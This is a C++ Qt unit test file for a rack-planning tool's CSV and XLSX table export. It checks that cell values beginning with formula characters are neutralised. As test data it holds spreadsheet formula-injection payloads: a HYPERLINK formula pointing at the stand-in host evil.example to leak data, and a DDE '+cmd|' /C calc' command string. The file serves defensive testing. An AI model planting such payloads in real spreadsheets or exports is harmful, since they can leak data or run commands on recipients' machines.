// SPDX-License-Identifier: GPL-3.0-or-later
#include "../common/testplans.h"

#include "i18n/language.h"
#include "review/reviewreport.h"
#include "review/tableexport.h"

#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QtTest>

using namespace rw;
using namespace rwtest;

namespace {

const QString kHostile = QStringLiteral("=HYPERLINK(\"http://evil.example/?leak\",\"Click\")");

/// The small plan with names a bidder could send: formulas where a spreadsheet would run them.
void buildHostilePlan(Plan &plan)
{
    buildSmallPlan(plan);
    Site site = plan.site();
    site.name = kHostile;
    site.operatorName = QStringLiteral("@SUM(A1:A9)");
    PlanFiller(plan).setSite(site);
    DeviceType server = *plan.find<DeviceType>(small::kServer);
    server.manufacturer = QStringLiteral("+cmd|' /C calc'!A0");
    server.maxPowerW = 411500;
    PlanFiller(plan).replace(server);
}

QString readText(const QString &path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return QStringLiteral("cannot read ") + path;
    return QString::fromUtf8(file.readAll());
}

/// One member of a zip file (an XLSX workbook) as text, through unzip(1).
QString zipMember(const QString &zip, const QString &member)
{
    QProcess unzip;
    unzip.start(QStringLiteral("unzip"), { QStringLiteral("-p"), zip, member });
    if (!unzip.waitForFinished(30000) || unzip.exitCode() != 0)
        return QStringLiteral("unzip failed: ") + QString::fromLocal8Bit(unzip.readAllStandardError());
    return QString::fromUtf8(unzip.readAllStandardOutput());
}

}  // namespace

class TestTableExport : public QObject {
    Q_OBJECT

private slots:
    void cleanup() { Language::apply(QStringLiteral("en")); }
    void neutralised_data();
    void neutralised();
    void numbersPlain();
    void hostileNamesInCsv();
    void germanCsv();
    void xlsx();
    void xlsxUnwritable();

private:
    QTemporaryDir mDir;
};

void TestTableExport::neutralised_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("expected");
    QTest::newRow("formula") << kHostile << QStringLiteral("'") + kHostile;
    QTest::newRow("plus") << QStringLiteral("+1+2") << QStringLiteral("'+1+2");
    QTest::newRow("minus") << QStringLiteral("-2+3") << QStringLiteral("'-2+3");
    QTest::newRow("at") << QStringLiteral("@SUM(A1)") << QStringLiteral("'@SUM(A1)");
    QTest::newRow("tab") << QStringLiteral("\t=1") << QStringLiteral("'\t=1");
    QTest::newRow("carriage return") << QStringLiteral("\r=1") << QStringLiteral("'\r=1");
    QTest::newRow("plain name") << QStringLiteral("BW-W01-A") << QStringLiteral("BW-W01-A");
    QTest::newRow("formula later") << QStringLiteral("Rack =1") << QStringLiteral("Rack =1");
    QTest::newRow("empty") << QString() << QString();
}

void TestTableExport::neutralised()
{
    QFETCH(QString, text);
    QFETCH(QString, expected);
    QCOMPARE(TableExport::neutralised(text), expected);
}

void TestTableExport::numbersPlain()
{
    // A number is written without thousands separators and keeps its sign: it is a number, not text.
    ReportTable table { QStringLiteral("t"), QStringLiteral("T"), { QStringLiteral("Load (kW)") },
        { { ReportCell::of(1234.75, 1) }, { ReportCell::of(-5, 0) } } };
    QCOMPARE(table.rows[0][0].text, QStringLiteral("1,234.8"));  // as the PDF shows it
    QCOMPARE(TableExport::csv(table), QStringLiteral("Load (kW)\r\n1234.8\r\n-5\r\n"));
    QVERIFY(Language::apply(QStringLiteral("de")));
    table.rows = { { ReportCell::of(1234.75, 1) } };
    QCOMPARE(TableExport::csv(table), QStringLiteral("Load (kW)\r\n1234,8\r\n"));
}

void TestTableExport::hostileNamesInCsv()
{
    Plan plan;
    buildHostilePlan(plan);
    const ReviewReport report(plan, QString(), {}, Review {});
    const QString dir = mDir.filePath(QStringLiteral("csv-en"));
    QStringList written;
    QString error;
    QVERIFY2(report.writeCsv(dir, &written, &error), qPrintable(error));
    const QString summary = readText(dir + QStringLiteral("/summary.csv"));
    QVERIFY2(
        summary.contains(QStringLiteral("Site,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click\"\")\"\r\n")),
        qPrintable(summary));
    QVERIFY2(summary.contains(QStringLiteral("Operator,'@SUM(A1:A9)\r\n")), qPrintable(summary));
    const QString bom = readText(dir + QStringLiteral("/bill-of-materials.csv"));
    QVERIFY2(bom.startsWith(QStringLiteral("Group,Item,Quantity,GPUs,Rating (kW)\r\n")), qPrintable(bom));
    QVERIFY2(bom.contains(QStringLiteral("Compute,'+cmd|' /C calc'!A0 Server 2U,3,12,411.50\r\n")), qPrintable(bom));
    // No cell of any table starts with a formula character.
    static const QRegularExpression formulaCell(QStringLiteral("(^|,|\r\n)\"?[=+@]"));
    for (const QString &path : written)
        QVERIFY2(!formulaCell.match(readText(path)).hasMatch(), qPrintable(path + QLatin1Char('\n') + readText(path)));
}

void TestTableExport::germanCsv()
{
    QVERIFY(Language::apply(QStringLiteral("de")));
    Plan plan;
    buildHostilePlan(plan);
    const ReviewReport report(plan, QString(), {}, Review {});
    const QString dir = mDir.filePath(QStringLiteral("csv-de"));
    QStringList written;
    QString error;
    QVERIFY2(report.writeCsv(dir, &written, &error), qPrintable(error));
    const QString bom = readText(dir + QStringLiteral("/bill-of-materials.csv"));
    // ";" between cells, decimal commas, no thousands separators, the unit in the header.
    QVERIFY2(bom.startsWith(QStringLiteral("Gruppe;Position;Anzahl;GPUs;Nennleistung (kW)\r\n")), qPrintable(bom));
    QVERIFY2(
        bom.contains(QStringLiteral("Rechenknoten;'+cmd|' /C calc'!A0 Server 2U;3;12;411,50\r\n")), qPrintable(bom));
    const QString summary = readText(dir + QStringLiteral("/summary.csv"));
    QVERIFY2(summary.contains(QStringLiteral("\r\nStandort;\"'=HYPERLINK(\"\"http")), qPrintable(summary));
    QVERIFY2(summary.contains(QStringLiteral("\r\nBetreiber;'@SUM(A1:A9)\r\n")), qPrintable(summary));
}

void TestTableExport::xlsx()
{
    if (!TableExport::xlsxAvailable())
        QSKIP("built without libxlsxwriter");
    if (QStandardPaths::findExecutable(QStringLiteral("unzip")).isEmpty())
        QFAIL("unzip is needed to read the workbook (scripts/dev.sh installs it)");
    Plan plan;
    buildHostilePlan(plan);
    const ReviewReport report(plan, QString(), {}, Review {});
    const QString path = mDir.filePath(QStringLiteral("review.xlsx"));
    QString error;
    QVERIFY2(report.writeXlsx(path, &error), qPrintable(error));
    QVERIFY(!QFile::exists(mDir.filePath(QStringLiteral(".review.xlsx.part"))));

    // One sheet per table, named by its key, in the report's order.
    const QString workbook = zipMember(path, QStringLiteral("xl/workbook.xml"));
    QStringList sheets;
    static const QRegularExpression sheetName(QStringLiteral("<sheet name=\"([^\"]+)\""));
    for (auto it = sheetName.globalMatch(workbook); it.hasNext();)
        sheets << it.next().captured(1);
    QStringList keys;
    for (const ReportTable &t : report.tables())
        keys << t.key;
    QCOMPARE(sheets, keys);

    // Bill of materials (sheet 2): quantity and rating are numeric cells, the rating with its decimals.
    const QString bom = zipMember(path, QStringLiteral("xl/worksheets/sheet2.xml"));
    QVERIFY2(
        bom.contains(QRegularExpression(QStringLiteral("<c r=\"C\\d+\" s=\"\\d+\"><v>3</v></c>"))), qPrintable(bom));
    QVERIFY2(bom.contains(QRegularExpression(QStringLiteral("<c r=\"E\\d+\" s=\"\\d+\"><v>411.5</v></c>"))),
        qPrintable(bom));
    // The hostile names are strings: no sheet holds a formula.
    for (int i = 1; i <= sheets.size(); ++i) {
        const QString sheet = zipMember(path, QStringLiteral("xl/worksheets/sheet%1.xml").arg(i));
        QVERIFY2(sheet.startsWith(QStringLiteral("<?xml")), qPrintable(sheet.left(200)));
        QVERIFY2(!sheet.contains(QStringLiteral("<f>")), qPrintable(sheet));
    }
    const QString strings = zipMember(path, QStringLiteral("xl/sharedStrings.xml"));
    QVERIFY2(strings.contains(QStringLiteral("<t>=HYPERLINK(\"http://evil.example/?leak\",\"Click\")</t>")),
        qPrintable(strings));
    // The workbook names the version that wrote it.
    QVERIFY(zipMember(path, QStringLiteral("docProps/core.xml")).contains(QStringLiteral("Rackwerk ")));
}

void TestTableExport::xlsxUnwritable()
{
    Plan plan;
    buildSmallPlan(plan);
    const ReviewReport report(plan, QString(), {}, Review {});
    QString error;
    const QString path = QStringLiteral("/nonexistent-dir/review.xlsx");
    QVERIFY(!report.writeXlsx(path, &error));
    QVERIFY2(error.contains(path), qPrintable(error));
    QVERIFY2(!error.contains(QLatin1Char('\n')), qPrintable(error));
}

QTEST_MAIN(TestTableExport)
#include "tst_tableexport.moc"
